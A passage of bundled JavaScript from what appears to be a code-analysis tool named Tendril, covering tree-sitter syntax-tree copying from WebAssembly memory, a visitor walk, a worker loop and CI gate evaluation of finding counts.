/** The copy's own symbol for ERROR nodes (tree-sitter's `errorSymbol`, stored as is). */
const ERROR_SYMBOL = 0xffff;
exports.FLAG_NAMED = 1;
const FLAG_MISSING = 2;
const FLAG_EXTRA = 4;
const FLAG_HAS_ERROR = 8;
let tablesCache = new WeakMap();
/**
 * @internal Sets the layout the copy reads with (default: TREE_LAYOUT), for the tests that break
 * one entry and for the TENDRIL_TEST_BREAK_LAYOUT hook of src/engine/parser.ts. Forgets the
 * language tables read with the previous one.
 */
function useTreeLayout(next = layout_1.LAYOUT) {
    layout = next;
    tablesCache = new WeakMap();
}
function memory() {
    const m = runtime;
    if (!m?.HEAPU8 || !m.HEAPU16 || !m.HEAPU32)
        throw new Error('the tree-sitter runtime memory is not available (setRuntimeMemory was not called)');
    return { u8: m.HEAPU8, u16: m.HEAPU16, u32: m.HEAPU32 };
}
function addressOf(handle) {
    return handle[layout.handleAddress];
}
/** Reads and checks the language tables; throws when they do not fit the layout this file knows. */
function tablesFor(language) {
    const cached = tablesCache.get(language);
    if (cached)
        return cached;
    const L = layout;
    const { u8, u16, u32 } = memory();
    const at = addressOf(language);
    const word = (offset) => u32[(at + offset) >>> 2];
    const abi = word(L.languageAbiVersion);
    const symbolCount = word(L.languageSymbolCount);
    const aliasCount = word(L.languageAliasCount);
    const productionIdCount = word(L.languageProductionIdCount);
    const fieldCount = word(L.languageFieldCount);
    const maxAlias = u16[(at + L.languageMaxAliasSequenceLength) >>> 1];
    const fieldMapSlices = word(L.languageFieldMapSlices);
    const fieldMapEntries = word(L.languageFieldMapEntries);
    const symbolMetadata = word(L.languageSymbolMetadata);
    const publicSymbolMap = word(L.languagePublicSymbolMap);
    const aliasSequences = word(L.languageAliasSequences);
    const unsupported = (why) => new Error(`unsupported tree-sitter language layout: ${why}`);
    if (!(abi >= L.abiMin && abi <= L.abiMax) || symbolCount + aliasCount !== language.types.length || fieldCount !== language.fields.length - 1) {
        throw unsupported(`ABI ${abi}, ${symbolCount}+${aliasCount} symbols, ${fieldCount} fields; ` +
            `expected ABI ${L.abiMin} to ${L.abiMax}, ${language.types.length} symbols and ${language.fields.length - 1} fields`);
    }
    // Production ids are u16 (SubtreeHeapData.production_id); every table must lie in the memory.
    if (!(productionIdCount <= 0x10000))
        throw unsupported(`${productionIdCount} production ids`);
    const within = (name, address, bytes) => {
        if (!(address > 0 && address + bytes <= u8.length))
            throw unsupported(`${name} at ${address} (${bytes} bytes) is outside the memory`);
    };
    const total = symbolCount + aliasCount;
    within('symbol_metadata', symbolMetadata, total * L.metadataSize);
    within('public_symbol_map', publicSymbolMap, total * L.symbolSize);
    if (aliasSequences)
        within('alias_sequences', aliasSequences, productionIdCount * maxAlias * L.symbolSize);
    if (fieldCount)
        within('field_map_slices', fieldMapSlices, productionIdCount * L.sliceSize);
    const publicSymbol = new Uint16Array(total);
    const named = new Uint8Array(total);
    for (let s = 0; s < total; s++) {
        publicSymbol[s] = u16[(publicSymbolMap + s * L.symbolSize) >>> 1];
        named[s] = u8[symbolMetadata + s * L.metadataSize + L.metadataNamed];
        if (named[s] > 1 || publicSymbol[s] >= total)
            throw unsupported(`symbol ${s} has public symbol ${publicSymbol[s]} and named ${named[s]}`);
    }
    // What web-tree-sitter's API says of the visible symbols must be what the tables say.
    for (let s = 0; s < total; s++) {
        if (!language.nodeTypeIsVisible(s))
            continue;
        if (language.types[publicSymbol[s]] !== language.types[s] || (named[s] === 1) !== language.nodeTypeIsNamed(s)) {
            throw unsupported(`symbol ${s} (${language.types[s]}) has public symbol ${publicSymbol[s]} and named ${named[s]}, not what web-tree-sitter says`);
        }
    }
    const aliases = new Uint16Array(productionIdCount * maxAlias);
    if (aliasSequences) {
        for (let k = 0; k < aliases.length; k++) {
            aliases[k] = u16[(aliasSequences + k * L.symbolSize) >>> 1];
            if (aliases[k] >= total)
                throw unsupported(`alias ${aliases[k]} is not a symbol`);
        }
    }
    // Field maps: a TSMapSlice by production id, into the TSFieldMapEntry list.
    let fieldWidth = 1;
    const slices = [];
    for (let p = 0; p < productionIdCount; p++) {
        const slice = fieldMapSlices + p * L.sliceSize;
        const index = fieldCount ? u16[(slice + L.sliceIndex) >>> 1] : 0;
        const length = fieldCount ? u16[(slice + L.sliceLength) >>> 1] : 0;
        if (length)
            within('field_map_entries', fieldMapEntries + index * L.fieldEntrySize, length * L.fieldEntrySize);
        slices.push([index, length]);
        for (let e = index; e < index + length; e++)
            fieldWidth = Math.max(fieldWidth, u8[fieldMapEntries + e * L.fieldEntrySize + L.fieldEntryChildIndex] + 1);
    }
    const fields = new Uint16Array(productionIdCount * fieldWidth);
    slices.forEach(([index, length], p) => {
        for (let e = index; e < index + length; e++) {
            const entry = fieldMapEntries + e * L.fieldEntrySize;
            const fieldId = u16[(entry + L.fieldEntryFieldId) >>> 1];
            const child = u8[entry + L.fieldEntryChildIndex];
            const inherited = u8[entry + L.fieldEntryInherited];
            if (fieldId === 0 || fieldId > fieldCount || inherited > 1)
                throw unsupported(`field map entry ${e} has field ${fieldId} and inherited ${inherited}`);
            if (!inherited && fields[p * fieldWidth + child] === 0)
                fields[p * fieldWidth + child] = fieldId;
        }
    });
    const typeNames = language.types.map((t) => t ?? '');
    const fieldIds = new Map();
    language.fields.forEach((name, id) => {
        if (name)
            fieldIds.set(name, id);
    });
    const tables = { language, publicSymbol, named, aliases, maxAlias, fields, fieldWidth, typeNames, fieldIds, typeSets: new Map() };
    tablesCache.set(language, tables);
    return tables;
}
/** One syntax tree, flat: node `i` is the i-th node in pre-order; the root is node 0. */
class SyntaxTree {
    language;
    text;
    count;
    /** Public symbol of each node (tree-sitter's `typeId`). */
    symbol;
    flags;
    startIndex;
    endIndex;
    /** Offsets where rows start (0, and one past each `\n`), made on the first point asked for. */
    lineStarts;
    /** Parent node, -1 for the root. */
    parentOf;
    /** One past the node's last descendant: node i's subtree is [i, end[i]). */
    end;
    field;
    tables;
    memos = new Map();
    constructor(language, 
    /** The source text the tree was parsed from. */
    text, count) {
        this.language = language;
        this.text = text;
        this.tables = tablesFor(language);
        this.count = count;
        this.symbol = new Uint16Array(count);
        this.flags = new Uint8Array(count);
        this.startIndex = new Int32Array(count);
        this.endIndex = new Int32Array(count);
        this.parentOf = new Int32Array(count);
        this.end = new Int32Array(count);
        this.field = new Uint16Array(count);
    }
    /** Copies a web-tree-sitter tree (which the caller still owns and deletes). */
    static from(tree, text) {
        return copyTree(tree, text);
    }
    /** @internal */
    static create(language, text, count) {
        return new SyntaxTree(language, text, count);
    }
    get rootNode() {
        return this.node(0);
    }
    /**
     * A cache by node id that lives as long as the tree, one per `key`: for facts several rules ask
     * of the same node (a call's keywords, a literal's value). Cheaper than a WeakMap of nodes,
     * which the garbage collector has to trace as ephemerons.
     */
    memo(key) {
        let memo = this.memos.get(key);
        if (!memo)
            this.memos.set(key, (memo = new Map()));
        return memo;
    }
    rowStarts() {
        let starts = this.lineStarts;
        if (!starts) {
            const text = this.text;
            let rows = 1;
            for (let i = text.indexOf('\n'); i >= 0; i = text.indexOf('\n', i + 1))
                rows++;
            starts = new Int32Array(rows);
            let row = 1;
            for (let i = text.indexOf('\n'); i >= 0; i = text.indexOf('\n', i + 1))
                starts[row++] = i + 1;
            this.lineStarts = starts;
        }
        return starts;
    }
    /** Offset where 0-based `row` starts; the end of the text for a row past the last. */
    rowStart(row) {
        const starts = this.rowStarts();
        return row >= 0 && row < starts.length ? starts[row] : this.text.length;
    }
    /** Row and column (UTF-16 units, 0-based) of a source offset, as tree-sitter counts them. */
    pointAt(index) {
        const starts = this.rowStarts();
        // The last row that starts at or before `index`.
        let lo = 0;
        let hi = starts.length - 1;
        while (lo < hi) {
            const mid = (lo + hi + 1) >>> 1;
            if (starts[mid] <= index)
                lo = mid;
            else
                hi = mid - 1;
        }
        return { row: lo, column: index - starts[lo] };
    }
    /**
     * A node object for index i, new on every call: compare nodes by `id`, never by identity.
     * Not cached: a cache kept every node object a rule had touched alive for the whole file, and
     * those survivors made the garbage collector copy and promote them (stdlib, two workers: about
     * 7% less CPU and wall time without the cache, docs/performance.md), while a node object that
     * dies young costs almost nothing.
     */
    node(i) {
        return new SyntaxNode(this, i);
    }
    typeName(i) {
        return this.symbolName(this.symbol[i]);
    }
    /** Type name of a public symbol (`ERROR` for the error symbol). */
    symbolName(symbol) {
        return symbol === ERROR_SYMBOL ? 'ERROR' : this.tables.typeNames[symbol] || 'ERROR';
    }
    /**
     * By public symbol, 1 where the symbol's type name is one of `names` (named or anonymous), for
     * loops over node indices that look for a few types. Not for `ERROR`: the error symbol is past
     * the end, and a read of it gives `undefined`. Made once per language and list of names.
     */
    typeSet(names) {
        const key = names.join(' ');
        let set = this.tables.typeSets.get(key);
        if (!set) {
            set = new Uint8Array(this.tables.typeNames.length);
            this.tables.typeNames.forEach((name, s) => {
                if (name && names.includes(name))
                    set[s] = 1;
            });
            this.tables.typeSets.set(key, set);
        }
        return set;
    }
    fieldId(name) {
        return this.tables.fieldIds.get(name) ?? -1;
    }
    fieldName(id) {
        return id ? (this.tables.language.fields[id] ?? null) : null;
    }
    isNamed(i) {
        return (this.flags[i] & exports.FLAG_NAMED) !== 0;
    }
    isMissing(i) {
        return (this.flags[i] & FLAG_MISSING) !== 0;
    }
    /** Index of the previous sibling of node i (named or not), or -1: up from node i - 1 to a child of i's parent. */
    previousSiblingOf(i) {
        const p = this.parentOf[i];
        if (p < 0 || i === p + 1)
            return -1;
        let x = i - 1;
        while (this.parentOf[x] !== p)
            x = this.parentOf[x];
        return x;
    }
    /** Index of the next sibling of node i (named or not), or -1. */
    nextSiblingOf(i) {
        const j = this.end[i];
        return j < this.count && i > 0 && this.parentOf[j] === this.parentOf[i] ? j : -1;
    }
}
exports.SyntaxTree = SyntaxTree;
/** A node of a SyntaxTree: the subset of web-tree-sitter's `Node` API that Tendril uses, in plain JavaScript. */
class SyntaxNode {
    tree;
    id;
    constructor(tree, 
    /** Unique within the tree: the node's pre-order index. */
    id) {
        this.tree = tree;
        this.id = id;
    }
    get type() {
        return this.tree.typeName(this.id);
    }
    get isNamed() {
        return this.tree.isNamed(this.id);
    }
    get isMissing() {
        return this.tree.isMissing(this.id);
    }
    get isExtra() {
        return (this.tree.flags[this.id] & FLAG_EXTRA) !== 0;
    }
    get hasError() {
        return (this.tree.flags[this.id] & FLAG_HAS_ERROR) !== 0;
    }
    get startIndex() {
        return this.tree.startIndex[this.id];
    }
    get endIndex() {
        return this.tree.endIndex[this.id];
    }
    get startPosition() {
        return this.tree.pointAt(this.tree.startIndex[this.id]);
    }
    get endPosition() {
        return this.tree.pointAt(this.tree.endIndex[this.id]);
    }
    get text() {
        return this.tree.text.slice(this.tree.startIndex[this.id], this.tree.endIndex[this.id]);
    }
    get parent() {
        const p = this.tree.parentOf[this.id];
        return p < 0 ? null : this.tree.node(p);
    }
    /** All children, named and anonymous. */
    get children() {
        const out = [];
        const t = this.tree;
        for (let j = this.id + 1, stop = t.end[this.id]; j < stop; j = t.end[j])
            out.push(t.node(j));
        return out;
    }
    get namedChildren() {
        const out = [];
        const t = this.tree;
        for (let j = this.id + 1, stop = t.end[this.id]; j < stop; j = t.end[j])
            if (t.flags[j] & exports.FLAG_NAMED)
                out.push(t.node(j));
        return out;
    }
    get childCount() {
        let n = 0;
        const t = this.tree;
        for (let j = this.id + 1, stop = t.end[this.id]; j < stop; j = t.end[j])
            n++;
        return n;
    }
    get namedChildCount() {
        let n = 0;
        const t = this.tree;
        for (let j = this.id + 1, stop = t.end[this.id]; j < stop; j = t.end[j])
            if (t.flags[j] & exports.FLAG_NAMED)
                n++;
        return n;
    }
    child(index) {
        const t = this.tree;
        for (let j = this.id + 1, stop = t.end[this.id], k = 0; j < stop; j = t.end[j], k++)
            if (k === index)
                return t.node(j);
        return null;
    }
    namedChild(index) {
        const t = this.tree;
        let k = 0;
        for (let j = this.id + 1, stop = t.end[this.id]; j < stop; j = t.end[j])
            if (t.flags[j] & exports.FLAG_NAMED && k++ === index)
                return t.node(j);
        return null;
    }
    get firstChild() {
        return this.id + 1 < this.tree.end[this.id] ? this.tree.node(this.id + 1) : null;
    }
    get lastChild() {
        const t = this.tree;
        let last = -1;
        for (let j = this.id + 1, stop = t.end[this.id]; j < stop; j = t.end[j])
            last = j;
        return last < 0 ? null : t.node(last);
    }
    get firstNamedChild() {
        const t = this.tree;
        for (let j = this.id + 1, stop = t.end[this.id]; j < stop; j = t.end[j])
            if (t.flags[j] & exports.FLAG_NAMED)
                return t.node(j);
        return null;
    }
    get nextSibling() {
        const j = this.tree.nextSiblingOf(this.id);
        return j < 0 ? null : this.tree.node(j);
    }
    /**
     * The closest named node before this one among its parent's children. tree-sitter also looks
     * inside an anonymous sibling that has children (only error recovery makes those) and may
     * answer with a node that is not a sibling; here only siblings count.
     */
    get previousNamedSibling() {
        const t = this.tree;
        let j = t.previousSiblingOf(this.id);
        while (j >= 0 && !(t.flags[j] & exports.FLAG_NAMED))
            j = t.previousSiblingOf(j);
        return j < 0 ? null : t.node(j);
    }
    /**
     * The first child in the field. As web-tree-sitter's `childForFieldName`, with two differences
     * where tree-sitter's answer is not a child: an ERROR node has no fields (tree-sitter: null, here
     * too), and tree-sitter looks through an aliased hidden child into its children (a
     * `match_statement`'s `alternative` is a `case_clause` inside its `block`); here, as in
     * `childrenForFieldName`, only the node's own children are fields of it.
     */
    childForFieldName(name) {
        const t = this.tree;
        const id = t.fieldId(name);
        if (id < 0 || t.symbol[this.id] === ERROR_SYMBOL)
            return null;
        for (let j = this.id + 1, stop = t.end[this.id]; j < stop; j = t.end[j])
            if (t.field[j] === id)
                return t.node(j);
        return null;
    }
    childrenForFieldName(name) {
        const t = this.tree;
        const id = t.fieldId(name);
        const out = [];
        if (id < 0)
            return out;
        for (let j = this.id + 1, stop = t.end[this.id]; j < stop; j = t.end[j])
            if (t.field[j] === id)
                out.push(t.node(j));
        return out;
    }
    /** This node and its descendants of the given types, in document order. */
    descendantsOfType(types) {
        const wanted = new Set(typeof types === 'string' ? [types] : types);
        const t = this.tree;
        const out = [];
        for (let j = this.id, stop = t.end[this.id]; j < stop; j++)
            if (wanted.has(t.typeName(j)))
                out.push(t.node(j));
        return out;
    }
    /** The field this node is in, within its parent. */
    get fieldName() {
        return this.tree.fieldName(this.tree.field[this.id]);
    }
}
exports.SyntaxNode = SyntaxNode;
/** Offsets in a frame of the copy's stack. */
/** The subtree's SubtreeHeapData address: its `Subtree` children are the 8-byte entries just before it. */
const F_PTR = 0;
const F_CHILD = 1;
const F_STRUCTURAL = 2;
const F_BYTES = 3;
/** The visible node the subtree's children belong to. */
const F_PARENT = 4;
/** The visible node this subtree is, -1 for a hidden one. */
const F_OWNER = 5;
/** A hidden subtree's field, inherited by its children that have none of their own. */
const F_FIELD = 6;
/** The subtree's child count and production id, read once. */
const F_COUNT = 7;
const F_PRODUCTION = 8;
/** 1 when the first child's padding counts: the frame that holds the root. */
const F_FIRST_PADDED = 9;
const FRAME = 10;
/**
 * The copy. An explicit stack of the subtrees being read (hidden ones included), so nesting
 * cannot overflow the JavaScript stack.
 */
function copyTree(tree, text) {
    const tables = tablesFor(tree.language);
    const { u8, u16, u32 } = memory();
    const { publicSymbol, named: namedMeta, aliases, maxAlias, fields, fieldWidth } = tables;
    // The layout, in locals: the loop below reads no property of it (src/engine/layout.ts says what each is).
    const L = layout;
    const SUBTREE = L.subtreeSize;
    const IS_INLINE = L.inlineIsInline;
    const I_VISIBLE = L.inlineVisible;
    const I_NAMED = L.inlineNamed;
    const I_EXTRA = L.inlineExtra;
    const I_MISSING = L.inlineMissing;
    const I_SYMBOL = L.inlineSymbol;
    const I_PADDING = L.inlinePaddingBytes;
    const I_SIZE = L.inlineSizeBytes;
    const H_PADDING = L.heapPaddingBytes;
    const H_SIZE = L.heapSizeBytes;
    const H_ERROR_COST = L.heapErrorCost;
    const H_CHILD_COUNT = L.heapChildCount;
    const H_SYMBOL = L.heapSymbol;
    const H_FLAGS = L.heapFlags;
    const H_VISIBLE = L.heapVisible;
    const H_NAMED = L.heapNamed;
    const H_EXTRA = L.heapExtra;
    const H_MISSING = L.heapMissing;
    const H_PRODUCTION = L.heapProductionId;
    const TS_ERROR = L.errorSymbol;
    const UNIT_SHIFT = L.unitShift;
    // The root Subtree, in the TSTree. A Subtree is inline when its first byte has the inline bit.
    const rootAt = addressOf(tree) + L.treeRoot;
    const rootInline = (u8[rootAt] & IS_INLINE) !== 0;
    const rootPtr = rootInline ? 0 : u32[rootAt >>> 2];
    const count = 1 + (rootPtr && u32[(rootPtr + H_CHILD_COUNT) >>> 2] > 0 ? u32[(rootPtr + L.heapVisibleDescendantCount) >>> 2] : 0);
    // A bound on the loop's steps (a subtree entry read or a frame left), far above what any tree
    // takes, so that a wrong layout ends in an error rather than a loop over garbage.
    const maxSteps = Math.min(0x7fffffff, 4096 + 64 * text.length);
    let steps = maxSteps;
    if (!(count <= maxSteps))
        throw new Error(`syntax tree copy: tree-sitter counts ${count} nodes in ${text.length} characters`);
    const out = SyntaxTree.create(tree.language, text, count);
    const { symbol, flags, startIndex, endIndex, parentOf, end, field } = out;
    // Stack of the subtrees being read, FRAME numbers each (see the F_ offsets): no closure and
    // one array of 32-bit integers, so the loop below keeps its variables in registers as
    // integers. Addresses are read back unsigned (`>>> 0`); offsets are those of the UTF-16 input,
    // which stay below 2^31 for any file under 1 GiB.
    let stack = new Int32Array(64 * FRAME);
    let top = -FRAME; // offset of the top frame
    // Pushes are written out in the loop below, not in a helper: the loop runs once per node, and
    // workers may run Maglev only (src/engine/pool.ts), which did not inline such a helper.
    const grown = (from) => {
        const to = new Int32Array(from.length * 2);
        to.set(from);
        return to;
    };
    // The root goes through the loop as the only child of a frame that stands for the TSTree (whose
    // `root` field is the Subtree at rootAt): no parent, no production, and its padding counts.
    top += FRAME;
    stack[top + F_COUNT] = 1;
    stack[top + F_PRODUCTION] = 0;
    stack[top + F_PTR] = rootAt + SUBTREE;
    stack[top + F_FIRST_PADDED] = 1;
    stack[top + F_CHILD] = 0;
    stack[top + F_STRUCTURAL] = 0;
    stack[top + F_BYTES] = 0;
    stack[top + F_PARENT] = -1;
    stack[top + F_OWNER] = -1;
    stack[top + F_FIELD] = 0;
    let n = 0;
    while (top >= 0) {
        if (--steps < 0)
            throw new Error(`syntax tree copy: no end after ${maxSteps} steps`);
        const childCount = stack[top + F_COUNT];
        const k = stack[top + F_CHILD];
        if (k === childCount) {
            const owner = stack[top + F_OWNER];
            if (owner >= 0)
                end[owner] = n;
            top -= FRAME;
            continue;
        }
        stack[top + F_CHILD] = k + 1;
        const a = (stack[top + F_PTR] >>> 0) - (childCount - k) * SUBTREE;
        let sym, visible, isNamed, extra, missing, errorCost, childPtr;
        let padBytes, sizeBytes;
        const b0 = u8[a];
        if (b0 & IS_INLINE) {
            sym = u8[a + I_SYMBOL];
            visible = (b0 & I_VISIBLE) !== 0;
            isNamed = (b0 & I_NAMED) !== 0;
            extra = (b0 & I_EXTRA) !== 0;
            missing = (b0 & I_MISSING) !== 0;
            errorCost = missing ? 1 : 0;
            padBytes = u8[a + I_PADDING];
            sizeBytes = u8[a + I_SIZE];
            childPtr = 0;
        }
        else {
            const p = u32[a >>> 2];
            sym = u16[(p + H_SYMBOL) >>> 1];
            const bits = u16[(p + H_FLAGS) >>> 1];
            visible = (bits & H_VISIBLE) !== 0;
            isNamed = (bits & H_NAMED) !== 0;
            extra = (bits & H_EXTRA) !== 0;
            missing = (bits & H_MISSING) !== 0;
            errorCost = missing ? 1 : u32[(p + H_ERROR_COST) >>> 2];
            padBytes = u32[(p + H_PADDING) >>> 2];
            sizeBytes = u32[(p + H_SIZE) >>> 2];
            childPtr = u32[(p + H_CHILD_COUNT) >>> 2] > 0 ? p : 0;
        }
        // The child's start: the parent's start for the first child, else after the previous child and its own padding.
        let bytes = stack[top + F_BYTES];
        if (k > 0 || stack[top + F_FIRST_PADDED])
            bytes += padBytes;
        const eBytes = bytes + sizeBytes;
        stack[top + F_BYTES] = eBytes;
        let alias = 0;
        let fieldId = 0;
        if (!extra) {
            const s = stack[top + F_STRUCTURAL]++;
            const production = stack[top + F_PRODUCTION];
            if (production) {
                if (s < maxAlias)
                    alias = aliases[production * maxAlias + s];
                if (s < fieldWidth)
                    fieldId = fields[production * fieldWidth + s];
            }
            if (!fieldId)
                fieldId = stack[top + F_FIELD];
        }
        let parent;
        let owner = -1;
        let inherited = 0;
        if (visible || alias) {
            const i = n++;
            const shown = alias || sym;
            symbol[i] = shown === TS_ERROR ? ERROR_SYMBOL : publicSymbol[shown];
            flags[i] =
                ((alias ? namedMeta[alias] : isNamed) ? exports.FLAG_NAMED : 0) |
                    (extra ? FLAG_EXTRA : 0) |
                    (missing ? FLAG_MISSING : 0) |
                    (errorCost > 0 ? FLAG_HAS_ERROR : 0);
            startIndex[i] = bytes >>> UNIT_SHIFT;
            endIndex[i] = eBytes >>> UNIT_SHIFT;
            parentOf[i] = stack[top + F_PARENT];
            field[i] = fieldId;
            if (!childPtr) {
                end[i] = i + 1;
                continue;
            }
            parent = owner = i;
        }
        else if (childPtr) {
            // A hidden subtree: its children belong to the visible parent and inherit its field.
            parent = stack[top + F_PARENT];
            inherited = extra ? 0 : fieldId;
        }
        else
            continue;
        // Push the subtree with children: `childPtr` is its SubtreeHeapData, and its `Subtree`
        // children are the entries just before it.
        top += FRAME;
        if (top + FRAME > stack.length)
            stack = grown(stack);
        stack[top + F_COUNT] = u32[(childPtr + H_CHILD_COUNT) >>> 2];
        stack[top + F_PRODUCTION] = u16[(childPtr + H_PRODUCTION) >>> 1];
        stack[top + F_FIRST_PADDED] = 0;
        stack[top + F_PTR] = childPtr;
        stack[top + F_CHILD] = 0;
        stack[top + F_STRUCTURAL] = 0;
        stack[top + F_BYTES] = bytes;
        stack[top + F_PARENT] = parent;
        stack[top + F_OWNER] = owner;
        stack[top + F_FIELD] = inherited;
    }
    if (n !== count)
        throw new Error(`syntax tree copy found ${n} nodes where tree-sitter counts ${count}`);
    return out;
}


/***/ }),

/***/ 4721:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.walk = walk;
const tree_1 = __nccwpck_require__(3036);
/** Node type names that name both a named node and an anonymous token (`lambda`, `await`, ...). */
function ambiguousTypes(tree) {
    const names = tree.language.types;
    const set = new Set();
    names.forEach((name, id) => {
        if (name && !tree.language.nodeTypeIsNamed(id) && tree.language.idForNodeType(name, true) !== null)
            set.add(name);
    });
    return set;
}
const ambiguousCache = new WeakMap();
/** Visitor keys (`call`, `function_definition:exit`) read once: every file's visitors have the same few. */
const keys = new Map();
/**
 * The single walk: visits, in source order, every node whose type some visitor asked for, calling
 * its handlers on the way down (`type`) and on the way up (`type:exit`). Anonymous tokens whose
 * type name is also a named node's (`lambda`, `await`) are not visited under that name.
 *
 * The tree is the flat pre-order copy (src/engine/tree.ts): the walk is a loop over node indices,
 * a node object is made only for a node some handler receives, and a node is left when the walk
 * reaches the end of its subtree. Iterative: deep nesting cannot overflow the stack.
 * `checkpoint`, when given, is called every 1,024 nodes and may throw to abandon the walk.
 */
function walk(tree, visitors, checkpoint) {
    const enter = new Map();
    const exit = new Map();
    for (const visitor of visitors) {
        for (const key in visitor) {
            const handler = visitor[key];
            if (key === 'end' || !handler)
                continue;
            let parsed = keys.get(key);
            if (!parsed)
                keys.set(key, (parsed = { type: key.split(':')[0], exit: key.endsWith(':exit') }));
            const { type } = parsed;
            const table = parsed.exit ? exit : enter;
            let list = table.get(type);
            if (!list)
                table.set(type, (list = []));
            list.push(handler);
        }
    }
    if (enter.size === 0 && exit.size === 0)
        return;
    let ambiguous = ambiguousCache.get(tree.language);
    if (!ambiguous)
        ambiguousCache.set(tree.language, (ambiguous = ambiguousTypes(tree)));
    // Handlers by public symbol (the error symbol in the last slot), looked up once per symbol that
    // occurs: `undefined` until then, `none` when no handler wants it. Arrays, not maps: this is
    // the one piece of work done for every node of every file.
    const none = [];
    const slots = tree.language.types.length + 1;
    const errorSlot = slots - 1;
    const enterBy = new Array(slots).fill(undefined);
    const exitBy = new Array(slots).fill(none);
    const ambiguousBy = new Uint8Array(slots);
    const { symbol, end, flags, count } = tree;
    // Open nodes with exit handlers: their index, and the end of their subtree.
    const openNode = [];
    const openEnd = [];
    const openHandlers = [];
    const leave = () => {
        openEnd.pop();
        const node = tree.node(openNode.pop());
        for (const handler of openHandlers.pop())
            handler(node);
    };
    for (let i = 0; i < count; i++) {
        // The file's time budget (src/engine/analyze.ts): a checkpoint may throw to stop the walk.
        if (checkpoint && (i & 1023) === 1023)
            checkpoint();
        while (openEnd.length > 0 && openEnd[openEnd.length - 1] <= i)
            leave();
        const raw = symbol[i];
        const s = raw < errorSlot ? raw : errorSlot;
        let onEnter = enterBy[s];
        if (onEnter === undefined) {
            const name = tree.symbolName(raw);
            onEnter = enterBy[s] = enter.get(name) ?? none;
            exitBy[s] = exit.get(name) ?? none;
            ambiguousBy[s] = ambiguous.has(name) ? 1 : 0;
        }
        const onExit = exitBy[s];
        if (onEnter === none && onExit === none)
            continue;
        if (ambiguousBy[s] === 1 && (flags[i] & tree_1.FLAG_NAMED) === 0)
            continue;
        const node = tree.node(i);
        for (const handler of onEnter)
            handler(node);
        if (onExit.length > 0) {
            openNode.push(i);
            openEnd.push(end[i]);
            openHandlers.push(onExit);
        }
    }
    while (openEnd.length > 0)
        leave();
}


/***/ }),

/***/ 6286:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isTendrilWorker = isTendrilWorker;
exports.runWorker = runWorker;
const worker_threads_1 = __nccwpck_require__(8167);
const pool_1 = __nccwpck_require__(6138);
/** True in a worker thread started by the pool (see PoolOptions.workerScript). */
function isTendrilWorker() {
    return !worker_threads_1.isMainThread && worker_threads_1.workerData?.tendrilWorker === true;
}
/**
 * The worker loop: analyse each file of each batch the main thread sends, sending each result back.
 * `catalogue` is every rule the bundle has (the entry point passes it in; the engine imports no rules).
 */
function runWorker(catalogue) {
    const setup = worker_threads_1.workerData;
    const byId = new Map(catalogue.map((rule) => [rule.meta.id, rule]));
    const lookup = (id) => {
        const rule = byId.get(id);
        if (!rule)
            throw new Error(`no rule with id ${id} in this bundle's catalogue`);
        return rule;
    };
    const ruleSets = setup.ruleSets.map((s) => ({ rules: s.ruleIds.map(lookup), options: s.options, ruleIds: s.known && new Set(s.known) }));
    worker_threads_1.parentPort.on('message', (message) => {
        void (async () => {
            for (let k = 0; k < message.files.length; k++) {
                const file = message.files[k];
                const result = await (0, pool_1.analyzeFile)(file, ruleSets[file.profile ?? 0], setup.budget);
                worker_threads_1.parentPort.postMessage({ batch: message.batch, k, result });
            }
        })();
    });
}


/***/ }),

/***/ 3916:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.UsageError = void 0;
/** An error the user can fix (bad argument, input, configuration): exit code 2, one line, no stack. */
class UsageError extends Error {
    name = 'UsageError';
}
exports.UsageError = UsageError;


/***/ }),

/***/ 2343:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.countFindings = countFindings;
exports.evaluateGates = evaluateGates;
exports.exitCode = exitCode;
const rules_1 = __nccwpck_require__(5755);
const severity_1 = __nccwpck_require__(2640);
const META = new Map(rules_1.ALL_RULES.map((rule) => [rule.meta.id, rule.meta]));
function countFindings(findings) {
    const counts = { security: 0, maintainability: 0, bySeverity: { critical: 0, high: 0, medium: 0, low: 0 } };
    for (const finding of findings) {
        const meta = META.get(finding.ruleId);
        if (meta?.kind === 'security') {
            counts.security++;
            counts.bySeverity[(0, severity_1.bandOf)(meta.securitySeverity ?? 0)]++;
        }
        else
            counts.maintainability++;
    }
    return counts;
}
/**
 * Reporting and failing are separate: everything is reported; the gates only decide the exit.
 * With a baseline, `newCounts` counts the new findings: the security gate and
 * `max-new-maintainability-findings` count only those, while `max-maintainability-findings`
 * stays a budget on the total (it is the one way to cap existing debt). An internal error in any
 * file (`notifications`) fails the run on its own.
 */
function evaluateGates(counts, settings, newCounts = counts, notifications = []) {
    const reasons = [];
    const compared = newCounts !== counts || Boolean(settings.baselineRef || settings.baselineSarif);
    const fresh = compared ? 'new ' : '';
    const threshold = settings.failOnSecuritySeverity;
    if (threshold !== 'none') {
        const bands = severity_1.BANDS.slice(0, severity_1.BANDS.findIndex((b) => b.name === threshold) + 1);
        const over = bands.reduce((sum, band) => sum + newCounts.bySeverity[band.name], 0);
        if (over > 0) {
            const list = bands.filter((b) => newCounts.bySeverity[b.name] > 0).map((b) => `${newCounts.bySeverity[b.name]} ${b.name}`);
            reasons.push(`${over} ${fresh}security finding${over === 1 ? '' : 's'} at or above ${threshold} severity (${list.join(', ')})`);
        }
    }
    const max = settings.maxMaintainabilityFindings;
    if (max >= 0 && counts.maintainability > max) {
        reasons.push(`${counts.maintainability} maintainability findings, more than the maximum of ${max}`);
    }
    const maxNew = settings.maxNewMaintainabilityFindings ?? -1;
    if (maxNew >= 0 && newCounts.maintainability > maxNew) {
        reasons.push(`${newCounts.maintainability} new maintainability findings, more than the maximum of ${maxNew}`);
    }
    const internal = [...new Set(notifications.filter((n) => n.id === 'internal-error').map((n) => n.path))];
    if (internal.length > 0) {
        const internalError = `${internal.length} file${internal.length === 1 ? '' : 's'} could not be fully analysed because of an internal error ` +
            `(${internal.slice(0, 3).join(', ')}${internal.length > 3 ? ', ...' : ''}); the results are incomplete, so the run fails`;
        return { failed: true, reasons: [...reasons, internalError], internalError };
    }
    return { failed: reasons.length > 0, reasons };
}
/** The exit code of a run, for the CLI and the action: 2 on an internal error, 1 when a gate failed, else 0. */
